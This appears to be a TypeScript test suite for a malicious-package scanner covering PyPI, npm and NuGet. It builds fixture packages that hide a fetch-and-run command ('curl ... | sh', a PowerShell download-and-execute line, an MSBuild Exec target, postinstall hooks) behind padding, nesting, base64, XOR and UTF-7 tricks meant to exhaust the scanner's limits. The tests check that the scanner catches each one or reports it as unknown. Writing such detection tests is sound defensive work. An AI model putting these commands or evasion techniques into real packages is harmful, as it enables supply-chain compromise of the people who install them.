import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { DEFAULT_LIMITS } from "../limits.ts";
import { inspectTree } from "./inspect.ts";
import { withLayers } from "./layers.ts";
import type { ReleaseTree } from "./model.ts";
import { PREFILTER } from "./searched.ts";
import { treeOfFiles } from "./unpack.ts";

/** Attacks behind so much of something else that a bound is reached: each is seen, or the verdict is unknown and says why. */

type Files = Readonly<Record<string, string>>;

function verdictOn(files: Files, filename: string, form: ReleaseTree["form"]) {
  const top = form === "sdist" ? "demo-1.0/" : form === "npm" ? "package/" : "";
  const entries = Object.entries(files).map(([path, text]) => [top + path, Buffer.from(text)] as const);
  const ecosystem = form === "sdist" ? "pypi" : form === "npm" ? "npm" : "nuget";
  const tree = treeOfFiles(entries, { filename, ecosystem, form }, PREFILTER);
  return inspectTree(withLayers(tree, PREFILTER, DEFAULT_LIMITS.lexedBytes), DEFAULT_LIMITS).verdict;
}

const sdist = (files: Files) =>
  verdictOn({ "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n", ...files }, "demo-1.0.tar.gz", "sdist");
const HOOKED = '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}';
const npm = (files: Files) => verdictOn({ "package.json": HOOKED, ...files }, "demo-1.0.0.tgz", "npm");
const NUSPEC = "<package><metadata><id>demo</id><version>1.0.0</version></metadata></package>";
const nupkg = (files: Files) => verdictOn({ "demo.nuspec": NUSPEC, ...files }, "demo.1.0.0.nupkg", "nupkg");

const ATTACK = "curl http://198.51.100.7/x | sh";
const PYTHON = `os.system('${ATTACK}')\n`;
const SCRIPT = `require('child_process').execSync('${ATTACK}');\n`;
const POWERSHELL = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')\n";
const EXEC = `<Target Name="a" BeforeTargets="Build"><Exec Command="${ATTACK}" /></Target>`;

const times = (count: number, write: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => write(at)).join("");
const named = (count: number, name: (at: number) => string, text: (at: number) => string): Files =>
  Object.fromEntries(Array.from({ length: count }, (_, at) => [name(at), text(at)]));
const executed = (text: string) => `exec(base64.b64decode('${Buffer.from(text).toString("base64")}'))\n`;
const nested = (depth: number, text: string): string =>
  depth === 0 ? text : nested(depth - 1, `import base64\n${executed(text)}`);
const flipped = [...ATTACK].map((letter) => String.fromCharCode(letter.charCodeAt(0) ^ 1)).join("");
const FLIPS = "import os\ndef f(s):\n  r=''\n  for c in s:\n    r+=chr(ord(c)^1)\n  return r\n";
const FLIPS_SCRIPT =
  "const c=require('child_process');function f(s){let r='';for(let i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^1);return r}\n";
const OVER = DEFAULT_LIMITS.lexedBytes + 1;

const SEEN: readonly (readonly [string, () => ReturnType<typeof sdist>])[] = [
  [
    "nine megabytes of comments before it",
    () => sdist({ "setup.py": `import os\n${"# abcdefghij\n".repeat(720_000)}${PYTHON}` }),
  ],
  ["nine megabytes on its own line", () => npm({ "setup.js": `var a='${"a".repeat(9 << 20)}';${SCRIPT}` })],
  [
    "three thousand calls of the same function",
    () => sdist({ "setup.py": `import os\n${times(3_000, (at) => `os.system('ls ${at}')\n`)}${PYTHON}` }),
  ],
  [
    "three hundred files that look a little like it",
    () =>
      sdist({
        ...named(
          300,
          (at) => `a/t${at}.py`,
          (at) => `import os\nos.system('ls ${at}')\n`,
        ),
        "setup.py": `import os\n${PYTHON}`,
      }),
  ],
  [
    "three hundred harmless texts that are decoded",
    () =>
      sdist({
        ...named(
          300,
          (at) => `a/t${at}.py`,
          (at) => `import base64\n${executed(`print('a harmless text ${at}')\n`)}`,
        ),
        "setup.py": `import base64\n${executed(`import os\n${PYTHON}`)}`,
      }),
  ],
  [
    "five thousand brackets",
    () => sdist({ "setup.py": `import os\n${"(".repeat(5_000)}${PYTHON.trim()}${")".repeat(5_000)}\n` }),
  ],
  [
    "a hundred and fifty functions in each other",
    () => sdist({ "setup.py": `import os\n${"(lambda: ".repeat(150)}${PYTHON.trim()}${")()".repeat(150)}\n` }),
  ],
  [
    "modules that import each other, ten in a row",
    () =>
      sdist({
        "setup.py": "import m0\n",
        ...named(
          9,
          (at) => `m${at}.py`,
          (at) => `import m${at + 1}\n`,
        ),
        "m9.py": `import os\n${PYTHON}`,
      }),
  ],
  [
    "scripts that require each other, ten in a row",
    () =>
      npm({
        "setup.js": "require('./m0')\n",
        ...named(
          9,
          (at) => `m${at}.js`,
          (at) => `require('./m${at + 1}')\n`,
        ),
        "m9.js": SCRIPT,
      }),
  ],
  [
    "eight hundred scripts that are required before it",
    () =>
      npm({
        "setup.js": `${times(800, (at) => `require('./m${at}')\n`)}require('./z')\n`,
        ...named(
          800,
          (at) => `m${at}.js`,
          (at) => `exports.a=${at}\n`,
        ),
        "z.js": SCRIPT,
      }),
  ],
  [
    "a megabyte before the import that leads to it",
    () => npm({ "setup.js": `${"// abcdefghij\n".repeat(90_000)}require('./z')\n`, "z.js": SCRIPT }),
  ],
  [
    "five hundred empty arguments",
    () => sdist({ "setup.py": `import subprocess\nsubprocess.run(['sh', '-c', ${"'', ".repeat(500)}'${ATTACK}'])\n` }),
  ],
  [
    "a quarter of a million blanks in the command",
    () => sdist({ "setup.py": `import os\nos.system('${" ".repeat(250_000)}${ATTACK}')\n` }),
  ],
  [
    "three thousand other commands on the line",
    () => sdist({ "setup.py": `import os\nos.system('${"true;".repeat(3_000)}${ATTACK}')\n` }),
  ],
  [
    "as many in an install script",
    () =>
      npm({
        "package.json": JSON.stringify({
          name: "demo",
          version: "1.0.0",
          scripts: { postinstall: `${"true && ".repeat(20_000)}${ATTACK}` },
        }),
      }),
  ],
  [
    "as many in a build file",
    () =>
      nupkg({
        "build/demo.targets": `<Project>${EXEC.replace('Command="', `Command="${"true; ".repeat(7_000)}`)}</Project>`,
      }),
  ],
  [
    "three hundred bundled dependencies",
    () =>
      npm({
        "package.json": '{"name":"demo","version":"1.0.0"}',
        ...named(
          300,
          (at) => `node_modules/d${at}/package.json`,
          (at) => `{"name":"d${at}","version":"1.0.0"}`,
        ),
        "node_modules/zz/package.json": `{"name":"zz","version":"1.0.0","scripts":{"postinstall":"${ATTACK}"}}`,
      }),
  ],
  [
    "a hundred thousand brackets in the manifest",
    () =>
      npm({
        "package.json": `{"name":"demo","version":"1.0.0","x":${"[".repeat(100_000)}${"]".repeat(100_000)},"scripts":{"postinstall":"${ATTACK}"}}`,
      }),
  ],
  [
    "thirty thousand calls in PowerShell",
    () => nupkg({ "tools/init.ps1": `${"Get-Date\n".repeat(30_000)}${POWERSHELL}` }),
  ],
];

const UNREAD: readonly (readonly [string, RegExp, () => ReturnType<typeof sdist>])[] = [
  [
    "more comments than are read",
    /bytes are more than are read/,
    () => sdist({ "demo/__init__.py": `import os\n${"# abcdefghij\n".repeat(OVER / 13)}${PYTHON}` }),
  ],
  [
    "more blank lines than are read",
    /bytes are more than are read/,
    () => sdist({ "demo/__init__.py": `import os\n${"\n".repeat(OVER)}${PYTHON}` }),
  ],
  [
    "more than is read on one line",
    /bytes are more than are read/,
    () => npm({ "setup.js": `var a='${"a".repeat(OVER)}';${SCRIPT}` }),
  ],
  [
    "more tokens than are kept",
    /only its first \d+ tokens were read/,
    () => npm({ "setup.js": `${"a=b;".repeat(1_600_000)}${SCRIPT}` }),
  ],
  [
    "a manifest that is too large",
    /The manifest cannot be read/,
    () => npm({ "package.json": `{"scripts":{"postinstall":"${ATTACK}"}}${" ".repeat(9 << 20)}` }),
  ],
  [
    "a manifest that npm may read otherwise",
    /The manifest cannot be read/,
    () => npm({ "package.json": `{"scripts":{"postinstall":"${ATTACK}"},}` }),
  ],
  [
    "loops that use up all steps in Python",
    /steps/,
    () =>
      sdist({
        "setup.py": `${FLIPS}${times(400, (at) => `y${at}=f('${"abc".repeat(400)}')\n`)}os.system(f('${flipped}'))\n`,
      }),
  ],
  [
    "loops that use up all steps in a script",
    /steps/,
    () =>
      npm({
        "setup.js": `${FLIPS_SCRIPT}${times(400, (at) => `var y${at}=f('${"abc".repeat(400)}');\n`)}c.execSync(f('${flipped}'));\n`,
      }),
  ],
  [
    "the words of a command in a script",
    /more words than are read/,
    () => npm({ "setup.js": `require('child_process').execSync("echo ${"ab".repeat(20_000)}; ${ATTACK}");\n` }),
  ],
  [
    "further arguments of a command in a script",
    /more words than are read/,
    () => npm({ "setup.js": `require('child_process').execSync(${"'a'+".repeat(3_000)}'; ${ATTACK}');\n` }),
  ],
  [
    "the words of a command in Python",
    /more words than are read/,
    () => sdist({ "setup.py": `import os\nos.system("echo ${"ab".repeat(110_000)}; ${ATTACK}")\n` }),
  ],
  [
    "the words of a command in a manifest",
    /more words than are read/,
    () =>
      npm({
        "package.json": `{"name":"demo","version":"1.0.0","scripts":{"postinstall":"echo ${"a".repeat(1 << 20)}; ${ATTACK}"}}`,
      }),
  ],
  [
    "other names of files that are loaded",
    /more than 20000 files/,
    () => npm({ "setup.js": `${times(20_001, (at) => `require('./a${at}');\n`)}require('./b');\n`, "b.js": SCRIPT }),
  ],
  [
    "other commands that building an addon runs",
    /more than 100 commands/,
    () =>
      npm({
        "package.json": '{"name":"demo","version":"1.0.0"}',
        "binding.gyp": `{"targets":[${times(101, (at) => `"<!(node a${at}.js)",`)}"<!(node b.js)"]}`,
        "b.js": SCRIPT,
      }),
  ],
  [
    "a build file that is too large",
    /bytes are more than are read of a build file/,
    () => nupkg({ "build/demo.targets": `<Project>${"<!-- abcdef -->\n".repeat(350_000)}${EXEC}</Project>` }),
  ],
  [
    "a build file with too many elements",
    /too large or too deep/,
    () => nupkg({ "build/demo.targets": `<Project>${"<A/>".repeat(60_000)}${EXEC}</Project>` }),
  ],
  [
    "another encoding of the source",
    /source encoding utf-7/,
    () => sdist({ "setup.py": "# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n" }),
  ],
  [
    "another encoding, far to the right",
    /source encoding utf-7/,
    () => sdist({ "setup.py": `#${" ".repeat(1_000)}coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n` }),
  ],
];

describe("an attack behind", () => {
  for (const [what, run] of SEEN) {
    test(`${what} is withheld`, () => assert.match(run().word, /^(?:malicious|suspicious)$/));
  }
  for (const [what, reason, run] of UNREAD) {
    test(`${what} is not called clean`, () => {
      const { word, because } = run();
      if (word !== "malicious") assert.match(`${word}: ${because}`, new RegExp(`^unknown: .*${reason.source}`));
    });
  }
  for (const depth of [4, 12]) {
    test(`${depth} encodings is withheld`, () => {
      assert.equal(sdist({ "setup.py": nested(depth, `import os\n${PYTHON}`) }).word, "malicious");
    });
  }
});
